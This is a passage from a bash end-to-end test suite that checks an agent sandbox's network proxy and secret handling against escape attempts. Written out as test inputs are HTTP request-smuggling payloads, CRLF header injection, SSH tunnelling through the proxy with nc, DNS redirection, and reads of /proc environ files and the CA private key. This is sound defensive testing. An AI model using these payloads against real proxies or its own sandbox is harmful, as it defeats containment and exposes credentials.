        bp_priv ip route del default via "$BP_PX" >/dev/null 2>&1
        bp_blocked "ip route add default via $BP_PX" bp_in ip route add default via "$BP_PX"
        bp_blocked "ip addr add ${BP_PX%.*}.9/28 dev eth0" bp_in ip addr add "${BP_PX%.*}.9/28" dev eth0
        bp_blocked "sysctl: re-enable IPv6" bp_in sh -c 'echo 0 >/proc/sys/net/ipv6/conf/all/disable_ipv6'
        saved=$(bp_in cat /etc/resolv.conf)
        bp_blocked "resolv.conf rewritten to nameserver $BP_SERVER, then getent hosts $BP_HOST" \
                bp_in sh -c "echo 'nameserver $BP_SERVER' >/etc/resolv.conf && getent hosts $BP_HOST"
        printf '%s\n' "$saved" | e2e_cexec_in "$(bp_agent)" sh -c 'cat >/etc/resolv.conf'
        bp_holds "the token never reached the test internet" bp_not_seen "$tok"
        bp_end
}

# git over SSH: GIT_SSH_COMMAND refuses politely; the barrier is that port 22 is reachable nowhere.
bp_case_ssh() {
        local before
        bp_begin N13 "git over SSH and raw TCP to port 22 (git clone, ssh via the proxy, direct connect)" "refused; no route; CONNECT :22 is 403"
        bp_control "the machine gets the SSH banner from $BP_SERVER:22" bp_machine_ssh
        before=$(bp_ssh_count)
        bp_refused "git clone git@$BP_HOST:x/y.git (GIT_SSH_COMMAND)" 'openshell: SSH is disabled' \
                bp_in git clone "git@$BP_HOST:x/y.git" /tmp/bp-repo
        bp_blocked "GIT_SSH_COMMAND unset: git clone ssh://git@$BP_SERVER/x" bp_in env -u GIT_SSH_COMMAND \
                git -c core.sshCommand='ssh -o BatchMode=yes -o ConnectTimeout=4 -o StrictHostKeyChecking=no' \
                clone "ssh://git@$BP_SERVER/x" /tmp/bp-repo
        bp_blocked "ssh -o ProxyCommand='nc -X connect -x $BP_PX:3128 %h %p' git@$BP_HOST" bp_in ssh -o BatchMode=yes \
                -o ConnectTimeout=4 -o StrictHostKeyChecking=no -o "ProxyCommand=nc -X connect -x $BP_PX:3128 %h %p" "git@$BP_HOST"
        bp_refused "CONNECT $BP_HOST:22 through the proxy" 'HTTP/1.1 403' bp_send '' --connect "$BP_HOST:22"
        bp_blocked "python connect $BP_SERVER:22" bp_py tcp "$BP_SERVER" 22
        bp_holds "no SSH connection reached the server" test "$(bp_ssh_count)" = "$before"
        bp_end
}
bp_ssh_count() { tb_exec sh -c "cat $BP_OUT/ssh.log 2>/dev/null | wc -l"; }
bp_machine_ssh() { tb_exec sh -c "busybox nc -w 3 $BP_SERVER 22 </dev/null" | grep -q SSH-2.0-bypass-upstream; }

# ---- the proxy: only what the policy allows, decided on what is really sent ------------------------

BP_GET_TS="GET / HTTP/1.1\r\nHost: $BP_HOST\r\nConnection: close\r\n\r\n"

bp_case_connect_ip() {
        local lit
        bp_begin P01 "CONNECT to a denied destination by IP literal (the allowed host's own address, in 5 spellings)" "403 (names are matched, not addresses)"
        bp_control "CONNECT $BP_HOST:80 is tunnelled to the test server" \
                bp_expect 'hello-from-testserver' bp_send "$BP_GET_TS" --connect "$BP_HOST:80"
        for lit in "$BP_SERVER:80" "[::ffff:$BP_SERVER]:80" 3323068426:80 0xc612000a:80 198.18.10:80; do
                bp_refused "CONNECT $lit" 'HTTP/1.1 40[03]' bp_send "$BP_GET_TS" --connect "$lit"
        done
        bp_refused "GET http://$BP_SERVER/ (absolute URI by IP)" 'HTTP/1.1 403' \
                bp_send "GET http://$BP_SERVER/ HTTP/1.1\r\nHost: $BP_SERVER\r\n\r\n"
        bp_end
}

# An inspected tunnel (8443, protocol rest): the TLS SNI and every request's Host must name the target.
bp_case_sni_host() {
        local tok ok="GET /sni-ok HTTP/1.1\r\nHost: $BP_HOST:8443\r\nConnection: close\r\n\r\n"
        bp_begin P02 "SNI different from the CONNECT target (CONNECT $BP_HOST:8443, SNI denied.openshell.test)" "TLS handshake refused"
        bp_control "SNI = the CONNECT host: the inspected request reaches the witness" \
                bp_expect 'bypass-upstream 1' bp_send "$ok" --connect "$BP_HOST:8443" --tls "$BP_HOST"
        bp_refused "SNI denied.openshell.test" 'tls-failed' bp_send "$ok" --connect "$BP_HOST:8443" --tls denied.openshell.test
        bp_refused "SNI example.com (an unrelated host)" 'tls-failed' bp_send "$ok" --connect "$BP_HOST:8443" --tls example.com
        bp_end

        tok=$(bp_token hostmix)
        bp_begin P03 "Host different from the CONNECT target inside an inspected tunnel (also 2nd request, absolute form)" "403 / 400, nothing forwarded"
        bp_control "Host = the CONNECT target: the witness answers" \
                bp_expect 'bypass-upstream 1' bp_send "$ok" --connect "$BP_HOST:8443" --tls "$BP_HOST"
        bp_refused "Host: denied.openshell.test" 'HTTP/1.1 403' bp_send "GET /$tok-1 HTTP/1.1\r\nHost: denied.openshell.test\r\n\r\n" \
                --connect "$BP_HOST:8443" --tls "$BP_HOST"
        bp_refused "Host: $BP_HOST:443 (another port)" 'HTTP/1.1 403' bp_send "GET /$tok-2 HTTP/1.1\r\nHost: $BP_HOST\r\n\r\n" \
                --connect "$BP_HOST:8443" --tls "$BP_HOST"
        bp_refused "a good request, then one for Host: denied.openshell.test on the same tunnel" \
                "bypass-upstream 1.*HTTP/1.1 403" bp_send \
                "GET /first HTTP/1.1\r\nHost: $BP_HOST:8443\r\n\r\nGET /$tok-3 HTTP/1.1\r\nHost: denied.openshell.test\r\n\r\n" \
                --connect "$BP_HOST:8443" --tls "$BP_HOST"
        bp_refused "absolute form inside the tunnel: GET http://denied.openshell.test/" 'HTTP/1.1 400' bp_send \
                "GET http://denied.openshell.test:8443/$tok-4 HTTP/1.1\r\nHost: $BP_HOST:8443\r\n\r\n" --connect "$BP_HOST:8443" --tls "$BP_HOST"
        bp_holds "none of these requests reached the witness" bp_not_seen "$tok"
        bp_end
}
# bp_expect PATTERN CMD...: CMD's output matches PATTERN (a control on an answer).
bp_expect() { local pat=$1 out; shift; out=$("$@" 2>&1); grep -qE -- "$pat" <<<"$out" || { echo "$out"; return 1; }; }

bp_case_absolute() {
        local tok
        tok=$(bp_token absuri)
        bp_begin P04 "absolute-URI requests: https:// to a denied host, http:// to it, userinfo/fragment confusions" "400 / 403, nothing forwarded"
        bp_control "GET http://$BP_HOST:8080/ (absolute URI) reaches the witness" bp_upstream_answers "http://$BP_HOST:8080/abs-ok"
        bp_refused "GET https://denied.openshell.test/ (absolute https)" 'HTTP/1.1 400' \
                bp_send "GET https://denied.openshell.test/$tok-1 HTTP/1.1\r\nHost: denied.openshell.test\r\n\r\n"
        bp_refused "GET https://$BP_HOST:8443/ (https must use CONNECT, even to an allowed host)" 'HTTP/1.1 400' \
                bp_send "GET https://$BP_HOST:8443/$tok-2 HTTP/1.1\r\nHost: $BP_HOST:8443\r\n\r\n"
        bp_refused "GET http://denied.openshell.test:8080/" 'HTTP/1.1 403' \
                bp_send "GET http://denied.openshell.test:8080/$tok-3 HTTP/1.1\r\nHost: denied.openshell.test:8080\r\n\r\n"
        bp_refused "GET http://$BP_HOST:8080@denied.openshell.test:8080/ (userinfo)" 'HTTP/1.1 40[03]' \
                bp_send "GET http://$BP_HOST:8080@denied.openshell.test:8080/$tok-4 HTTP/1.1\r\nHost: $BP_HOST:8080\r\n\r\n"
        bp_refused "GET http://denied.openshell.test:8080#@$BP_HOST:8080/ (fragment)" 'HTTP/1.1 40[03]' \
                bp_send "GET http://denied.openshell.test:8080#@$BP_HOST:8080/$tok-5 HTTP/1.1\r\nHost: $BP_HOST:8080\r\n\r\n"
        bp_refused "GET http://denied.openshell.test:8080\\\\@$BP_HOST:8080/ (backslash)" 'HTTP/1.1 40[03]' \
                bp_send "GET http://denied.openshell.test:8080\\\\@$BP_HOST:8080/$tok-6 HTTP/1.1\r\nHost: $BP_HOST:8080\r\n\r\n"
        bp_refused "Host: $BP_HOST:8080 with GET http://denied.openshell.test:8080/ (Host header vs URI)" 'HTTP/1.1 403' \
                bp_send "GET http://denied.openshell.test:8080/$tok-7 HTTP/1.1\r\nHost: $BP_HOST:8080\r\n\r\n"
        bp_refused "origin-form GET / with Host: $BP_HOST:8080 (a transparent-proxy request)" 'HTTP/1.1 400' \
                bp_send "GET /$tok-8 HTTP/1.1\r\nHost: $BP_HOST:8080\r\n\r\n"
        bp_holds "none of these requests reached the witness" bp_not_seen "$tok"
        bp_end
}

# Request smuggling towards an allowed L7 endpoint whose /forbidden/** is denied: a request hidden in a
# body the proxy and the upstream frame differently would reach /forbidden. The witness frames like an
# RFC 9112 server (Transfer-Encoding over Content-Length), so a smuggled request would be counted there.
bp_case_smuggling() {
        local tok u="http://$BP_HOST:8080"
        tok=$(bp_token smuggle)
        local hidden="GET /forbidden/$tok HTTP/1.1\r\nHost: $BP_HOST:8080\r\n\r\n"
        local hlen
        hlen=$(printf '%b' "0\r\n\r\n$hidden" | wc -c)
        bp_begin P05 "request smuggling to an allowed endpoint: CL+TE, TE+CL, duplicate CL, obs-fold, TE variants" "400, nothing hidden reaches the upstream"
        bp_control "a POST with a Content-Length body reaches the witness (one request)" bp_expect 'bypass-upstream 1' \
                bp_send "POST $u/post-ok HTTP/1.1\r\nHost: $BP_HOST:8080\r\nContent-Length: 5\r\n\r\nhello"
        bp_control "GET $u/forbidden/x is denied (so a smuggled one would matter)" bp_expect 'HTTP/1.1 403' \
                bp_send "GET $u/forbidden/x HTTP/1.1\r\nHost: $BP_HOST:8080\r\n\r\n"
        bp_refused "Content-Length + Transfer-Encoding: chunked" 'HTTP/1.1 400' bp_send \
                "POST $u/cl-te HTTP/1.1\r\nHost: $BP_HOST:8080\r\nContent-Length: $hlen\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n$hidden"
        bp_refused "Transfer-Encoding: chunked + Content-Length" 'HTTP/1.1 400' bp_send \
                "POST $u/te-cl HTTP/1.1\r\nHost: $BP_HOST:8080\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n5c\r\n$hidden\r\n0\r\n\r\n"
        bp_refused "duplicate Content-Length (5, then the smuggled length)" 'HTTP/1.1 400' bp_send \
                "POST $u/dup-cl HTTP/1.1\r\nHost: $BP_HOST:8080\r\nContent-Length: 5\r\nContent-Length: $((hlen + 5))\r\n\r\nhello0\r\n\r\n$hidden"
        bp_refused "obs-fold hiding Transfer-Encoding (400, or unfolded into X-A's value: RFC 9112 5.2)" \
                'HTTP/1.1 400|bypass-upstream 1' bp_send \
                "POST $u/fold-te HTTP/1.1\r\nHost: $BP_HOST:8080\r\nContent-Length: $hlen\r\nX-A: b\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n$hidden"
        bp_refused "obs-fold in an ordinary header (400, or unfolded)" 'HTTP/1.1 400|bypass-upstream 1' bp_send \
                "GET $u/fold HTTP/1.1\r\nHost: $BP_HOST:8080\r\nX-A: b\r\n\tc\r\n\r\n"
        bp_refused "Transfer-Encoding : chunked (space before the colon)" 'HTTP/1.1 400' bp_send \
                "POST $u/te-space HTTP/1.1\r\nHost: $BP_HOST:8080\r\nContent-Length: $hlen\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n$hidden"
        bp_refused "Transfer-Encoding: xchunked / chunked, identity" 'HTTP/1.1 (400|501)' bp_send \
                "POST $u/te-x HTTP/1.1\r\nHost: $BP_HOST:8080\r\nContent-Length: $hlen\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n$hidden"
        bp_refused "bare LF line ends with a hidden CL" 'HTTP/1.1 400' bp_send \
                "POST $u/lf HTTP/1.1\nHost: $BP_HOST:8080\nContent-Length: $hlen\nTransfer-Encoding: chunked\n\n0\r\n\r\n$hidden"
        bp_refused "a kept-alive connection: an allowed GET, then GET /forbidden pipelined" \
                'bypass-upstream 1.*HTTP/1.1 403' bp_send \
                "GET $u/ka HTTP/1.1\r\nHost: $BP_HOST:8080\r\n\r\nGET $u/forbidden/$tok-ka HTTP/1.1\r\nHost: $BP_HOST:8080\r\n\r\n"
        bp_refused "a kept-alive connection: then a denied host pipelined" 'bypass-upstream 1.*HTTP/1.1 403' bp_send \
                "GET $u/ka2 HTTP/1.1\r\nHost: $BP_HOST:8080\r\n\r\nGET http://denied.openshell.test:8080/$tok-kb HTTP/1.1\r\nHost: denied.openshell.test:8080\r\n\r\n"
        bp_holds "the witness never framed a hidden request" bp_no_request "$tok"
        bp_end
}

# Credential placeholders: the proxy swaps in the real secret; the agent must not be able to steer that
# into a new header, an unknown key, another host, or a tunnel the proxy does not inspect.
bp_case_placeholder() {
        local tok u="http://$BP_HOST:8080" b64
        tok=$(bp_token ph)
        bp_begin P06 "header injection and misuse through a credential placeholder" "no injected header; 403 for unknown keys/hosts; tunnels carry the placeholder"
        bp_control "a placeholder in a header is replaced by the secret on the way to the allowed host" \
                bp_substituted "$tok-ok" "X-Auth: $BP_SECRET"
        bp_refused "an unknown placeholder (openshell:resolve:env:NOPE)" 'HTTP/1.1 403.*unknown_credential' bp_send \
                "GET $u/$tok-u HTTP/1.1\r\nHost: $BP_HOST:8080\r\nX-Auth: openshell:resolve:env:NOPE\r\n\r\n"
        bp_refused "placeholder + %0d%0aX-Injected: in the query" 'HTTP/1.1 200' bp_send \
                "GET $u/$tok-q?x=$BP_PLACEHOLDER%0d%0aX-Injected:%20$tok-q2 HTTP/1.1\r\nHost: $BP_HOST:8080\r\nConnection: close\r\n\r\n"
        bp_holds "the witness got no X-Injected header (the value stays percent-encoded)" bp_no_injected "$tok-q"
        b64=$(printf 'u:%s\r\nX-Injected: %s' "$BP_PLACEHOLDER" "$tok-b" | base64 -w0)
        bp_refused "Basic auth whose decoded value carries CRLF + X-Injected" 'HTTP/1.1 (200|400|403)' bp_send \
                "GET $u/$tok-b HTTP/1.1\r\nHost: $BP_HOST:8080\r\nAuthorization: Basic $b64\r\nConnection: close\r\n\r\n"
        bp_holds "the witness got no X-Injected header from the Basic value" bp_no_injected "$tok-b"
        bp_refused "a NUL after the placeholder in a header" 'HTTP/1.1 400' bp_send \
                "GET $u/$tok-n HTTP/1.1\r\nHost: $BP_HOST:8080\r\nX-Auth: $BP_PLACEHOLDER\x00X-Injected: 1\r\n\r\n"
        bp_refused "the placeholder sent to a denied host" 'HTTP/1.1 403' bp_send \
                "GET http://denied.openshell.test:8080/$tok-d HTTP/1.1\r\nHost: denied.openshell.test:8080\r\nX-Auth: $BP_PLACEHOLDER\r\n\r\n"
        bp_holds "neither of those was forwarded" bp_not_seen_all "$tok-n" "$tok-u" "$tok-d"
        bp_refused "the placeholder inside an uninspected tunnel (CONNECT $BP_HOST:8081)" 'bypass-upstream 1' bp_send \
                "GET /$tok-t HTTP/1.1\r\nHost: $BP_HOST:8081\r\nX-Auth: $BP_PLACEHOLDER\r\nConnection: close\r\n\r\n" \
                --connect "$BP_HOST:8081"
        bp_holds "the tunnel carried the placeholder, never the secret" bp_tunnel_kept_placeholder "$tok-t"
        bp_end
}
bp_substituted() {
        bp_curl -H "X-Auth: $BP_PLACEHOLDER" "http://$BP_HOST:8080/$1" >/dev/null
        bp_upstream_conn "$1" | tr -d '\r' | grep -qxF -- "$2"
}
bp_no_injected() {
        local raw
        raw=$(bp_upstream_conn "$1")
        [ -n "$raw" ] || { echo "the request never reached the witness (cannot judge)"; return 1; }
        ! tr -d '\r' <<<"$raw" | grep -qi '^X-Injected' || { tr -d '\r' <<<"$raw" | grep -i '^X-Injected'; return 1; }
}
bp_tunnel_kept_placeholder() {
        local raw
        raw=$(bp_upstream_conn "$1")
        grep -qF -- "$BP_PLACEHOLDER" <<<"$raw" && ! grep -qF -- "$BP_SECRET" <<<"$raw"
}

# ---- secrets: the agent never holds a real one -----------------------------------------------------

# Greps run inside the agent take the pattern on stdin (grep -f /dev/stdin): the secret never appears in
# the agent's command lines, environment or files, even during the test.
bp_agent_grep() {
        local pat=$1
        shift
        printf '%s\n' "$pat" | e2e_cexec_in "$(bp_agent)" grep -rlF -f /dev/stdin --exclude-dir=proc --exclude-dir=sys \
                --exclude-dir=dev "$@"
}
bp_agent_environs() { bp_in sh -c 'for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr "\0" "\n" <"$f"; echo; done'; }
bp_lacks_secret() { ! grep -qF -- "$BP_SECRET" <<<"$("$@" 2>&1)"; }
bp_has() { local pat=$1 out; shift; out=$("$@" 2>&1); grep -qF -- "$pat" <<<"$out" || { echo "$out" | tail -n 3; return 1; }; }

bp_case_secret_env() {
        bp_begin S01 "read the real secret from the environment of PID 1 and its children (/proc/*/environ, cmdline)" "only the placeholder is there"
        bp_control "the dump holds the sandbox's environment (OPENSHELL_SANDBOX=$BP_A)" bp_has "OPENSHELL_SANDBOX=$BP_A" bp_agent_environs
        bp_control "... and the placeholder BYPASS_TOKEN=$BP_PLACEHOLDER" bp_has "BYPASS_TOKEN=$BP_PLACEHOLDER" bp_agent_environs
        bp_holds "no process of the agent carries the secret" bp_lacks_secret bp_agent_environs
        bp_end
}

bp_case_secret_files() {
        local canary
        canary=$(bp_token canary)
        bp_begin S02 "search every file of the agent (/, /proc/1/root, the mounts) for the real secret" "not found"
        bp_in sh -c "echo $canary >/var/tmp/bp-canary"
        bp_control "the same search finds a planted canary" bp_has /var/tmp/bp-canary bp_agent_grep "$canary" /
        bp_blocked "grep -rF <secret> / (stdin pattern)" bp_agent_grep "$BP_SECRET" /
        bp_blocked "grep -rF <secret> /proc/1/root/{etc,run,tmp,var,root,opt}" bp_agent_grep "$BP_SECRET" \
                /proc/1/root/etc /proc/1/root/run /proc/1/root/tmp /proc/1/root/var /proc/1/root/root /proc/1/root/opt
        bp_holds "/proc/1/root is the agent's own root, not the machine's" bp_own_root
        bp_in rm -f /var/tmp/bp-canary
        bp_end
}
bp_own_root() { test "$(bp_in cat /proc/1/root/etc/hostname)" != "$(tb_exec cat /etc/hostname)"; }

# The TLS material: the proxy's CA key is hidden, the proxy's gateway key is not mounted in the agent.
bp_case_secret_keys() {
        local vol
        vol=$(e2e_volume_path "openshell-tls-$BP_A")
        bp_begin S03 "read the proxy's CA key and the proxy's gateway key (mounted files, private/, umount)" "hidden: empty tmpfs, EPERM; no key of the proxy in the agent"
        bp_control "the CA key exists on the TLS volume ($vol/private/ca.key)" tb_exec grep -q 'PRIVATE KEY' "$vol/private/ca.key"
        bp_control "the proxy's gateway key exists ($(gw_state_dir)/sandboxes/$BP_A/tls/tls.key)" \
                tb_exec grep -q 'PRIVATE KEY' "$(gw_state_dir)/sandboxes/$BP_A/tls/tls.key"
        bp_control "the same search finds the agent's PEM files (the CA certificate)" bp_has ca.crt bp_agent_grep 'BEGIN CERTIFICATE' /etc/openshell-tls
        bp_blocked "cat /etc/openshell-tls/private/ca.key" bp_in cat /etc/openshell-tls/private/ca.key
        bp_blocked "cat /proc/1/root/etc/openshell-tls/private/ca.key" bp_in cat /proc/1/root/etc/openshell-tls/private/ca.key
        bp_blocked "ls -A /etc/openshell-tls/private (anything there)" bp_in sh -c 'ls -A /etc/openshell-tls/private | grep .'
        bp_blocked "umount /etc/openshell-tls/private" bp_in umount /etc/openshell-tls/private
        bp_blocked "umount -l /etc/openshell-tls" bp_in umount -l /etc/openshell-tls
        bp_holds "no private key file in the agent is the CA key or the proxy's gateway key" bp_no_proxy_keys "$vol"
        bp_end
}
bp_no_proxy_keys() {
        local forbidden mine
        forbidden=$(tb_exec sha256sum "$1/private/ca.key" "$(gw_state_dir)/sandboxes/$BP_A/tls/tls.key" | awk '{ print $1 }')
        mine=$(bp_in sh -c 'grep -rlF --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev "PRIVATE KEY" / | xargs -r sha256sum')
        e2e_info "  private keys in the agent: $(awk '{ print $2 }' <<<"$mine" | tr '\n' ' ')"
        ! grep -qFf <(echo "$forbidden") <<<"$mine"
}

bp_case_secret_api() {
        local cert=() out
        bp_begin S04 "fetch the credentials from the gateway through the proxy's forward (with the agent's own certificate, and without one)" "refused: only the proxy's certificate gets them"
        bp_control "the proxy's certificate gets them on the callback listener" bp_proxy_gets_credentials
        if bp_in test -s /etc/openshell/tls/client/tls.key; then
                e2e_info "  the agent has a client certificate: $(bp_in openssl x509 -noout -subject -in /etc/openshell/tls/client/tls.crt 2>&1)"
                cert=(--cert /etc/openshell/tls/client/tls.crt --key /etc/openshell/tls/client/tls.key)
                bp_blocked "GET /v1/sandboxes/$BP_A/credentials with the agent's certificate" \
                        bp_secret_in gw_forward_curl "$BP_A" "/v1/sandboxes/$BP_A/credentials" "${cert[@]}"
        else
                e2e_info "  the agent has no client certificate (the gateway issued none for it)"
        fi
        bp_blocked "GET /v1/sandboxes/$BP_A/credentials without a certificate" \
                bp_secret_in gw_forward_curl "$BP_A" "/v1/sandboxes/$BP_A/credentials" -k
        bp_end
}
bp_secret_in() { local out; out=$("$@" 2>&1); echo "$(tail -n 1 <<<"$out") $(head -c 120 <<<"$out")"; grep -qF -- "$BP_SECRET" <<<"$out"; }
bp_proxy_gets_credentials() {
        local t d
        t=$(gw_state_dir)/sandboxes/$BP_A/tls d=$(gw_tls_dir)
        # shellcheck disable=SC2046
        e2e_as curl -sS -m 10 --cacert "$d/ca.crt" --cert "$t/tls.crt" --key "$t/tls.key" \
                $(gw_callback_target "/v1/sandboxes/$BP_A/credentials") | grep -qF -- "$BP_SECRET"
}

bp_case_secret_inspect() {
        bp_begin S05 "podman inspect of the agent (and of its proxy) for the real secret" "not there"
        bp_control "the inspection shows the agent's environment (OPENSHELL_SANDBOX=$BP_A)" \
                bp_has "OPENSHELL_SANDBOX=$BP_A" e2e_podman inspect "$(bp_agent)"
        bp_holds "podman inspect openshell-agent-$BP_A lacks the secret" bp_lacks_secret e2e_podman inspect "$(bp_agent)"
        bp_holds "podman inspect openshell-proxy-$BP_A lacks the secret" bp_lacks_secret e2e_podman inspect "openshell-proxy-$BP_A"
        bp_holds "the sandbox's spec file lacks the secret" bp_lacks_secret tb_exec cat "$(e2e_spec_dir)/$BP_A.json"
        bp_end
}

bp_case_secret_logs() {
        local tok
        tok=$(bp_token logged)
        bp_begin S06 "the real secret in logs: journal, podman logs, the gateway's logs API, provider listings" "never logged"
        bp_control "a request with the placeholder is substituted and logged by the proxy" bp_logged_request "$tok"
        bp_holds "the machine's journal lacks the secret" bp_lacks_secret tb_exec journalctl -b --no-pager -o cat
        bp_holds "podman logs of the agent and the proxy lack it" bp_lacks_secret bp_podman_logs
        bp_holds "GET /v1/sandboxes/$BP_A/logs answers and lacks it" bp_api_lacks_secret "/v1/sandboxes/$BP_A/logs?lines=1000"
        bp_holds "GET /v1/providers and /v1/providers/$BP_PROV (admin) answer and lack it" bp_provider_listings
        bp_end
}
bp_logged_request() {
        bp_curl -H "X-Auth: $BP_PLACEHOLDER" "http://$BP_HOST:8080/$1" >/dev/null
        bp_upstream_conn "$1" | grep -qF -- "$BP_SECRET" &&
                gw_wait 10 gw_proxy_journal_has "$BP_A" "$1"
}
bp_podman_logs() { e2e_podman logs "$(bp_agent)"; e2e_podman logs "openshell-proxy-$BP_A"; }
bp_provider_listings() { bp_api_lacks_secret /v1/providers && bp_api_lacks_secret "/v1/providers/$BP_PROV"; }
bp_api_lacks_secret() {
        local out
        out=$(gw_api GET "$1")
        [ "$(gw_status "$out")" = 200 ] || { echo "GET $1: $(tail -c 200 <<<"$out")"; return 1; }
        ! grep -qF -- "$BP_SECRET" <<<"$out"
}

bp_case_secret_proc() {
        bp_begin S07 "see or reach the proxy's and the machine's processes from the agent (/proc)" "only the agent's own PID namespace"
        bp_control "/proc/1 is the supervisor (openshell-sandbox)" bp_has openshell-sandbox bp_in cat /proc/1/cmdline
        bp_blocked "a process of the proxy, gateway, conmon or systemd in the agent's /proc" \
                bp_in sh -c 'cat /proc/[0-9]*/cmdline | tr "\0" " " | grep -E "openshell-(prox[y]|gatewa[y])|conmo[n]|system[d]"'
        bp_blocked "kill -0 of a process outside (the proxy's PID as the machine sees it)" \
                bp_in sh -c "kill -0 $(e2e_cpid "openshell-proxy-$BP_A")"
        bp_end
}

# ---- the suite -------------------------------------------------------------------------------------

bp_suite() {
        gw_set_callback
        if tb_exec test -e "$(gw_state_dir)"; then GW_STATE_EXISTED=yes; else GW_STATE_EXISTED=no; fi
        bp_cleanup >/dev/null 2>&1
        if bp_setup; then
                bp_case_direct
                bp_case_host
                bp_case_ipv6
                bp_case_udp_dns
                bp_case_neighbours
                bp_case_raw_routes
                bp_case_ssh
                bp_case_connect_ip
                bp_case_sni_host
                bp_case_absolute
                bp_case_smuggling
                bp_case_placeholder
                bp_case_secret_env
                bp_case_secret_files
                bp_case_secret_keys
                bp_case_secret_api
                bp_case_secret_inspect
                bp_case_secret_logs
                bp_case_secret_proc
        fi
        bp_report
        bp_cleanup
        bp_gateway_down
        e2e_check "cleanup: nothing of $BP_A/$BP_B, the witness or the test CA left" bp_nothing_left
}

bp_nothing_left() {
        local left
        left="$(gw_leftovers "$BP_A") $(gw_leftovers "$BP_B")"
        tb_exec podman container exists "$BP_UPSTREAM" 2>/dev/null && left+=" container:$BP_UPSTREAM"
        tb_exec test -e "$BP_RUN" && left+=" $BP_RUN"
        tb_exec test -e "$(dirname "$(bp_dropin)")" && left+=" $(dirname "$(bp_dropin)")"
        [ "$(tb_exec systemctl is-active bypass-v6host.service "$BP_UPSTREAM.service" | sort -u)" = inactive ] ||
                left+=" units:bypass-v6host/$BP_UPSTREAM"
        left=$(echo $left)
        [ -z "$left" ] || { echo "$left"; return 1; }
}
